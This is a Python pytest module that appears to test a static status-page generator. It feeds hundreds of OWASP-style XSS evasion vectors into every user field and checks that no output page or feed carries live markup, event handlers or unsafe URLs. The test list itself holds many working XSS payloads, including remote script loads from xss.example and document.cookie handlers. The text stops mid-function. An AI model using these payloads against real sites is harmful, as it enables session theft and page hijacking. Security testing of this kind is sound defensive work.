"""OWASP XSS filter-evasion vectors in every user-controlled field never reach any output as live markup."""

from __future__ import annotations

import functools
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import icalendar
import lxml.etree
import lxml.html
import pytest

from statusgen import check
from tests.conftest import NOW, write_tree

# Slow (outside `pytest -m "not slow and not browser"`): hundreds of attack vectors, each built into a site.
pytestmark = pytest.mark.slow

BASE_URL = "https://status.example.com/"
SVG_DATA = (
    "data:image/svg+xml;base64,"
    "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
)
HTML_DATA = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
JS_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:alert(1)")
JS_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:alert(1)")
JS_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert(1)")

# The OWASP XSS Filter Evasion Cheat Sheet, plus Markdown-specific and mutation (mXSS) forms.
VECTORS = [
    # script tags: case, attributes, splitting, missing ends
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://xss.example/x.js></script>",
    "<SCRIPT SRC=//xss.example/.j></SCRIPT>",
    '<SCRIPT/XSS SRC="https://xss.example/x.js"></SCRIPT>',
    '<SCRIPT/SRC="https://xss.example/x.js"></SCRIPT>',
    "<script\tsrc=https://xss.example/x.js></script>",
    "<script\nsrc=https://xss.example/x.js></script>",
    "<script>alert(1)",
    "<SCRIPT SRC=https://xss.example/x.js?< B >",
    '<SCRIPT a=">" SRC="https://xss.example/x.js"></SCRIPT>',
    '<SCRIPT =">" SRC="https://xss.example/x.js"></SCRIPT>',
    '<SCRIPT a=">" \'\' SRC="https://xss.example/x.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="https://xss.example/x.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="https://xss.example/x.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/x.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<script<script>>alert(1)</script>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\\\";alert('XSS');//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>alert(1)</script\x00>",
    "<\x00script>alert(1)</script>",
    '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<noembed><script>alert(1)</script></noembed>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<div>\n<script>alert(1)</script>\n</div>",
    "> <script>alert(1)</script>",
    "* <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> [x](javascript:alert(1)) |",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    # comments, CDATA, processing instructions, server-side includes
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    '<!-- <a href="--><img src=x onerror=alert(1)>"> -->',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><script>alert(1)</script>]]>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"-->"
    "<!--#exec cmd=\"/bin/echo 'IPT SRC=//xss.example/x.js></SCRIPT>'\"-->",
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>'
    '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
    '<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(1)</SCRIPT>">',
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    f'<img src=x onerror="{JS_PADDED}">',
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src="https://ok.example/x.png" alt="x" title="x" onload=alert(1)>',
    "<BODY ONLOAD=alert(1)>",
    "<body onload=alert(1)>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<SVG ONLOAD=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<b onmouseover=alert(1)>x</b>",
    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "<p onclick=alert(1)>x</p>",
    '<code class="x" onmouseover=alert(1)>x</code>',
    '<abbr title="x" onclick=alert(1)>x</abbr>',
    '<ol start="1" onclick=alert(1)><li>x</li></ol>',
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    '<BR SIZE="&{alert(1)}">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="https://xss.example/x.svg#x"></use></svg>',
    '<svg><use xlink:href="' + SVG_DATA + '#x"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    # style, expression(), url(javascript:)
    "<style>@import 'https://xss.example/x.css';</style>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>',
    '<STYLE TYPE="text/javascript">alert(1);</STYLE>',
    '<STYLE>.XSS{background-image:url("javascript:alert(1)");}</STYLE><A CLASS=XSS></A>',
    '<STYLE type="text/css">BODY{background:url("javascript:alert(1)")}</STYLE>',
    '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<DIV STYLE="background-image: url(&#1;javascript:alert(1))">x</DIV>',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
    "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">x</DIV>",
    '<div style="width: expression(alert(1));">x</div>',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))" src=x>',
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(1))'>",
    '<p style="color:red">x</p>',
    '<XSS STYLE="xss:expression(alert(1))">',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
    "<link rel=import href=https://xss.example/x.html>",
    # meta, base, form
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url={HTML_DATA}">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(1);">',
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
    '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
    '<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">'
    "+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
    '<meta charset="x-imap4-modified-utf7">',
    '<BASE HREF="javascript:alert(1);//">',
    '<base href="https://xss.example/">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    # frames, objects, embeds
    '<iframe src="javascript:alert(1)"></iframe>',
    '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "<iframe src=https://xss.example/x.html <",
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<object data="javascript:alert(1)"></object>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    f'<object data="{HTML_DATA}"></object>',
    f'<EMBED SRC="{SVG_DATA}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<embed src="javascript:alert(1)">',
    '<applet code="xss.class"></applet>',
    '<BGSOUND SRC="javascript:alert(1);">',
    # images: scripting URLs, entity and whitespace obfuscation, plain http, data:
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    f"<IMG SRC={JS_DECIMAL}>",
    f"<IMG SRC={JS_PADDED}>",
    f"<IMG SRC={JS_HEX}>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC="jav&#x0D;ascript:alert(1);">',
    '<IMG SRC="java\x00script:alert(1)">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<IMG SRC="livescript:[code]">',
    '<IMG DYNSRC="javascript:alert(1)">',
    '<IMG LOWSRC="javascript:alert(1)">',
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<TABLE BACKGROUND="javascript:alert(1)"><TR><TD>x</TD></TR></TABLE>',
    '<TABLE><TD BACKGROUND="javascript:alert(1)">x</TD></TABLE>',
    f'<img src="{SVG_DATA}">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="http://xss.example/x.png">',
    '<img src="HTTP://xss.example/x.png">',
    '<img src=" http://xss.example/x.png">',
    '<img src="ht\ttp://xss.example/x.png">',
    '<img src="ht&#x09;tp://xss.example/x.png">',
    '<img src="http:xss.example/x.png">',
    '<img src="http:\\\\xss.example\\x.png">',
    '<img src="ftp://xss.example/x.png">',
    '<img src="//xss.example/x.png">',
    '<img srcset="http://xss.example/x.png 1x">',
    '<picture><source srcset="http://xss.example/x.png"><img src="https://ok.example/x.png"></picture>',
    '<input type="image" src="http://xss.example/x.png">',
    "![x](http://xss.example/x.png)",
    "![x](HTTP://xss.example/x.png)",
    "![x](<http://xss.example/x.png>)",
    "![x][img]\n\n[img]: http://xss.example/x.png",
    "![x](javascript:alert(1))",
    "![x](JaVaScRiPt:alert(1))",
    "![x](vbscript:msgbox(1))",
    f"![x]({SVG_DATA})",
    "![x](data:text/html,<script>alert(1)</script>)",
    '![x"onerror="alert(1)](https://ok.example/x.png)',
    '![x](https://ok.example/x.png "t\\" onerror=\\"alert(1)")',
    '![x](x.png"onerror="alert(1))',
    # Markdown links
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    f"[x]({JS_DECIMAL})",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](javascript://%0aalert(1))",
    '[x](javascript:alert(1) "title")',
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    f"[x]({HTML_DATA})",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    "[x](livescript:alert(1))",
    "[x](feed:javascript:alert(1))",
    '[x](https://ok.example/ "a\\" onclick=\\"alert(1)")',
    '[x"onclick="alert(1)](https://ok.example/)',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/) and [y](http://ok.example/) and [z](//ok.example/)",
    "[x](mailto:someone@example.com)",
    # reference links
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    '[x][1]\n\n[1]: javascript:alert(1) "title"',
    "[x][1]\n\n[1]: JaVaScRiPt&#58;alert(1)",
    f"[x][1]\n\n[1]: {HTML_DATA}",
    "[x][]\n\n[x]: vbscript:msgbox(1)",
    "[1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: https://ok.example/",
    # autolinks
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<javascript&#58;alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,alert(1)>",
    "<https://ok.example/>",
    '<https://ok.example/" onclick="alert(1)>',
    "<mailto:someone@example.com>",
    "<someone@example.com>",
    "<javascript:alert(1)@example.com>",
    # raw <a href>
    '<a href="javascript:alert(1)">x</a>',
    '<A HREF="JaVaScRiPt:alert(1)">x</A>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    f'<a href="{JS_HEX}">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    f'<a href="{HTML_DATA}">x</a>',
    "<a href=\"javascript:document.location='https://xss.example/'\">x</a>",
    "<a href=javascript:alert(1)>x",
    '<a href="javascript:alert(1)"',
    '<a href="https://ok.example/ onmouseover="alert(1)">x</a>',
    '<a href="https://ok.example/" target="_blank">x</a>',
    '<a href="https://ok.example/" rel="opener">x</a>',
    '<a href="//xss.example/">x</a>',
    '<a href="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">x</a>',
    '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">x</A>',
    '<a href="https://ok.example/" ping="https://xss.example/">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<q cite="javascript:alert(1)">x</q>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<del cite="javascript:alert(1)">x</del>',
    # unclosed attributes and tags
    "<img src=x onerror=alert(1)//",
    '<img src="x',
    "<img src='x' onerror='alert(1)'",
    '<img src="x" alt="\n" onerror="alert(1)">',
    "<<img src=x onerror=alert(1)//<",
    '<a href="https://ok.example/',
    "Set.constructor`alert\\x28document.domain\\x29```",
    # images from another host, written as if relative (protocol-relative and what browsers read so)
    "![t](//tracker.example/x.gif)",
    '<img src="/\\tracker.example/x.gif">',
    '<img src="\\\\tracker.example/x.gif">',
    '<img src=" &#9;/&#10;/tracker.example/x.gif">',
    '<img src="/%5Ctracker.example/x.gif">',
    '<img src="HTTPS:tracker.example/x.gif">',
    # characters feeds, JSON and YAML care about
    "]]><script>alert(1)</script><![CDATA[",
    "\u2028\u2029<script>alert(1)</script>",
    "'\"&<>`=/",
]

ENTITY_FIELDS = (
    "component.name",
    "component.group",
    "component.description",
    "incident.title",
    "incident.update",
    "incident.body",
    "maintenance.title",
    "maintenance.body",
    "maintenance.update",
)
CHUNK = 16  # vectors joined into one site title or description per build (they are plain text)

# What the default theme itself writes, and what the sanitiser is meant to let through from Markdown.
THEME_TAGS = frozenset({
    "html", "head", "meta", "title", "link", "body", "a", "header", "div", "nav", "main", "footer", "p",
    "time", "section", "h1", "h2", "h3", "ul", "ol", "li", "span", "dl", "dt", "dd", "article", "small",
    "strong"
})  # fmt: skip
CONTENT_TAGS = frozenset({
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "dl", "dt", "em", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "small", "strong",
    "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul"
})  # fmt: skip
THEME_ATTRS = frozenset({
    "aria-hidden", "aria-label", "aria-labelledby", "aria-current", "charset", "class", "content",
    "datetime", "dir", "href", "hreflang", "id", "lang", "name", "rel", "tabindex", "title", "type"
})  # fmt: skip
CONTENT_ATTRS = frozenset(
    {"href", "title", "src", "alt", "width", "height", "class", "align", "start", "rel"}
)
PAGE_TAGS = THEME_TAGS | CONTENT_TAGS
PAGE_ATTRS = THEME_ATTRS | CONTENT_ATTRS
FEED_TAGS = CONTENT_TAGS | {"html", "head", "body", "time"}  # entry HTML: Markdown plus the update headings
FEED_ATTRS = CONTENT_ATTRS | {"datetime", "lang"}  # (lang: a text not translated into the feed's)
URL_ATTRS = frozenset({
    "href", "src", "action", "formaction", "background", "poster", "data", "codebase", "cite", "lowsrc",
    "dynsrc", "ping", "srcset", "longdesc", "usemap", "manifest", "icon", "profile", "archive", "classid",
    "srcdoc"
})  # fmt: skip
SINGLE_TAGS = ("html", "head", "body", "title", "header", "main", "footer")
THEME_LINK_RELS = frozenset({"canonical", "stylesheet", "alternate"})
ATOM = "{http://www.w3.org/2005/Atom}"
HTML_IN_FEEDS = (f"{ATOM}content", "description", "{http://purl.org/rss/1.0/modules/content/}encoded")
TEXT_IN_FEEDS = (f"{ATOM}title", f"{ATOM}subtitle", f"{ATOM}name", f"{ATOM}rights", "title")
SVG = "{http://www.w3.org/2000/svg}"
SVG_TAGS = frozenset({"svg", "title", "rect", "g", "text"})
XML_PARSER = lxml.etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
STYLE_CSS = Path(__file__).resolve().parents[1] / "themes" / "default" / "static" / "style.css"
_C0_OR_SPACE = "".join(chr(code) for code in range(0x21))
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")
_OWNED_PATH = re.compile(r"(?:incidents|maintenance)/v(\d{3})/|components/c(\d{3})/")

Problem = tuple[int | None, str]  # (index of the vector whose entry shows it, or None; what is wrong)


# ---------------------------------------------------------------- content


def q(value: str) -> str:
    """A YAML double-quoted scalar holding exactly `value`."""
    return json.dumps(value)


def site_yaml(title: str, description: str, components: list[tuple[str, str, str, str]]) -> str:
    """`site.yaml` with these components: (id, name, group, description)."""
    listed = "".join(
        f"  - id: {cid}\n    name: {q(name)}\n    group: {q(group)}\n    description: {q(text)}\n"
        for cid, name, group, text in components
    )
    return (
        f"title: {q(title)}\ndescription: {q(description)}\nbase_url: {BASE_URL}\n"
        f"timezone: America/Los_Angeles\nuptime:\n  days: 1\nfeeds:\n  entries: 10000\ncomponents:\n{listed}"
    )


def incident_md(title: str, update: str, body: str, component: str) -> str:
    """An ongoing incident with one update."""
    return (
        f"---\ntitle: {q(title)}\nstarted: 2012-06-21T09:00:00-07:00\nimpact: critical\n"
        f"components: [{component}]\nupdates:\n  - at: 2012-06-21T09:05:00-07:00\n"
        f"    status: investigating\n    body: {q(update)}\n---\n{body}\n"
    )


def maintenance_md(title: str, body: str, update: str, component: str) -> str:
    """An upcoming maintenance with one update."""
    return (
        f"---\ntitle: {q(title)}\nstart: 2012-06-22T09:00:00-07:00\nend: 2012-06-22T10:00:00-07:00\n"
        f"components: [{component}]\nupdates:\n  - at: 2012-06-20T09:05:00-07:00\n"
        f"    status: scheduled\n    body: {q(update)}\n---\n{body}\n"
    )


def small_site(
    title: str = "Benign title", description: str = "Benign description", vector: str = ""
) -> dict[str, str]:
    """One component, incident and maintenance; `vector` (if any) in each of their fields."""
    v = vector or "Benign"
    return {
        "site.yaml": site_yaml(title, description, [("web", v, v, v)]),
        "incidents/xss.md": incident_md(v, v, v, "web"),
        "maintenance/xss.md": maintenance_md(v, v, v, "web"),
    }


def bulk_site(vectors: list[str]) -> dict[str, str]:
    """Vector i in every field of component c<i>, incident v<i> and maintenance v<i>."""
    files = {
        "site.yaml": site_yaml(
            "Benign title", "Benign description", [(f"c{i:03d}", v, v, v) for i, v in enumerate(vectors)]
        )
    }
    for i, v in enumerate(vectors):
        files[f"incidents/v{i:03d}.md"] = incident_md(v, v, v, f"c{i:03d}")
        files[f"maintenance/v{i:03d}.md"] = maintenance_md(v, v, v, f"c{i:03d}")
    return files


def build(folder: Path, files: dict[str, str]) -> dict[str, bytes]:
    """Write a content folder and build it in memory."""
    return dict(check(write_tree(folder, files), NOW).files)


# ---------------------------------------------------------------- HTML


def url_scheme(url: str) -> str:
    """The scheme a browser sees: C0 and spaces trimmed, tabs and newlines removed, lower-cased."""
    cleaned = re.sub(r"[\t\n\r]", "", url.strip(_C0_OR_SPACE)).lower()
    found = _SCHEME.match(cleaned)
    return found.group(1) if found else ""


def element_problems(
    tag: str, attrs: dict[str, str], tags: frozenset[str], allowed: frozenset[str], page_url: str
) -> list[str]:
    """What is wrong with one element: its name, its attributes, its URLs."""
    out = [] if tag in tags else [f"unexpected element <{tag}>"]
    if tag == "meta" and set(attrs) - {"charset", "name", "content"}:
        out.append(f"<meta {' '.join(sorted(attrs))}>")
    if tag == "link" and attrs.get("rel") not in THEME_LINK_RELS:
        out.append(f"<link rel={attrs.get('rel')!r}>")
    for name, value in attrs.items():
        name = name.lower()
        local = name.rsplit(":", 1)[-1]
        if local.startswith("on"):
            out.append(f"<{tag}> has event handler {name}={value!r}")
        elif name not in allowed:
            out.append(f"<{tag}> has unexpected attribute {name}={value!r}")
        if local not in URL_ATTRS:
            continue
        if tag == "img" and local == "src":
            # As a browser reads it (WHATWG): in an http(s) URL a backslash is a slash.
            read = re.sub(r"[\t\n\r]", "", value.strip(_C0_OR_SPACE)).replace("\\", "/")
            resolved = urlsplit(urljoin(page_url, read))
            if resolved.scheme != "https":
                out.append(f"<img> loads {value!r}, not over https")
            elif not url_scheme(read) and resolved.hostname != urlsplit(page_url).hostname:
                out.append(f"<img> loads {value!r} from another host than the page's")
        elif url_scheme(value) not in ("", "http", "https", "mailto"):
            out.append(f"<{tag}> has {name}={value!r} (scheme {url_scheme(value)}:)")
    return out


class Tokens(HTMLParser):
    """A second, independent tokeniser: every start tag, comment and declaration of a document."""

    def __init__(self) -> None:
        """Collect tokens, with character references in attribute values decoded."""
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str], str]] = []
        self.other: list[str] = []
        self.last_link = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Record a start tag and the last entry link before it."""
        values = {name: value or "" for name, value in attrs}
        self.tags.append((tag, values, self.last_link))
        if tag == "a" and _OWNED_PATH.search(values.get("href", "")):
            self.last_link = values["href"]

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        """Record a comment."""
        self.other.append(f"comment <!--{data[:60]}-->")

    def handle_pi(self, data: str) -> None:
        """Record a processing instruction."""
        self.other.append(f"processing instruction <?{data[:60]}>")

    def unknown_decl(self, data: str) -> None:
        """Record a CDATA section or another declaration."""
        self.other.append(f"declaration <![{data[:60]}>")

    def handle_decl(self, decl: str) -> None:
        """Record a declaration other than the doctype."""
        if decl.lower() != "doctype html":
            self.other.append(f"declaration <!{decl[:60]}>")


def owner_of_link(href: str) -> int | None:
    """The vector index an entry link points to (incidents/v007/, components/c007/)."""
    found = _OWNED_PATH.search(href)
    return int(found.group(1) or found.group(2)) if found else None


def owner_of_node(node: lxml.html.HtmlElement) -> int | None:
    """The vector whose entry holds a node: the one its nearest ancestor with entry links points to."""
    for ancestor in [node, *node.iterancestors()]:
        owners = {owner_of_link(a.get("href", "")) for a in ancestor.iter("a")} - {None}
        if owners:
            return owners.pop() if len(owners) == 1 else None
    return None


def where(node: lxml.html.HtmlElement) -> str:
    """A short location: the node's ancestors with their ids or classes."""
    parts = []
    for element in reversed([node, *node.iterancestors()]):
        label = str(element.tag)
        if element.get("id"):
            label += "#" + element.get("id")
        elif element.get("class"):
            label += "." + ".".join(element.get("class").split())
        parts.append(label)
    return " > ".join(parts[2:] or parts)


def html_problems(text: str, page_url: str, *, page: bool) -> list[Problem]:
    """Markup that must not be in a page (page=True) or in the HTML of a feed entry."""
    tags, allowed = (PAGE_TAGS, PAGE_ATTRS) if page else (FEED_TAGS, FEED_ATTRS)
    tokens = Tokens()
    tokens.feed(text)
    tokens.close()
    out: list[Problem] = [(None, f"[tokeniser] {other}") for other in tokens.other]
    for tag, attrs, after in tokens.tags:
        near = f" (after the link to {after})" if after else ""
        out += [
            (None, f"[tokeniser] {p}{near}") for p in element_problems(tag, attrs, tags, allowed, page_url)
        ]
    if page:
        for tag in SINGLE_TAGS:
            count = sum(1 for found, _, _ in tokens.tags if found == tag)
            if count != 1:
                out.append((None, f"[tokeniser] {count} <{tag}> elements"))
        sheets = sum(
            1 for found, attrs, _ in tokens.tags if found == "link" and attrs.get("rel") == "stylesheet"
        )
        if sheets != 1:
            out.append((None, f"[tokeniser] {sheets} stylesheets, not the theme's one"))
    root = lxml.html.document_fromstring(text if page else f"<!DOCTYPE html><html><body>{text}</body></html>")
    for node in root.iter():
        if not isinstance(node.tag, str):
            out.append((owner_of_node(node.getparent()), f"[lxml] {node!r} in {where(node.getparent())}"))
            continue
        found = element_problems(node.tag, dict(node.attrib), tags, allowed, page_url)
        if node.tag == "title" and len(node):
            found.append("<title> holds elements")
        if node.tag == "a" and node.get("href") is not None:
            parts = urlsplit(urljoin(page_url, node.get("href").strip(_C0_OR_SPACE)))
            external = parts.scheme in ("http", "https") and parts.hostname != urlsplit(BASE_URL).hostname
            theme = page and any(ancestor.tag == "footer" for ancestor in node.iterancestors())
            if external and not theme and not {"noopener", "noreferrer"} <= set(node.get("rel", "").split()):
                found.append(f"external <a href={node.get('href')!r}> without rel noopener noreferrer")
        out += [(owner_of_node(node), f"[lxml] {p} in {where(node)}") for p in found]
    return out


# ---------------------------------------------------------------- feeds, JSON, badges, calendars


@functools.lru_cache(maxsize=4096)
def entry_html_problems(text: str) -> tuple[Problem, ...]:
    """The problems of one feed entry's HTML (the same entry shows in several feeds)."""
    return tuple(html_problems(text, BASE_URL, page=False))


def feed_problems(data: bytes) -> list[Problem]:
    """Atom and RSS: entry HTML is sanitised, text constructs are plain text, links are web links."""
    root = lxml.etree.fromstring(data, XML_PARSER)
    out: list[Problem] = []
    for node in root.iter():
        if not isinstance(node.tag, str):
            out.append((None, f"{node!r} in the feed"))
            continue
        path = root.getroottree().getpath(node)
        entry = next((a for a in node.iterancestors() if a.tag in (f"{ATOM}entry", "item")), None)
        owner = None
        if entry is not None:
            link = entry.find(f"{ATOM}link")
            owner = owner_of_link(link.get("href", "") if link is not None else entry.findtext("link", ""))
        found = []
        kind = node.get("type")
        if node.tag in HTML_IN_FEEDS:
            if node.tag == f"{ATOM}content" and kind != "html":
                found.append(f"content of type {kind!r}")
            if len(node):
                found.append("holds XML elements")
            for inner_owner, problem in entry_html_problems(node.text or ""):
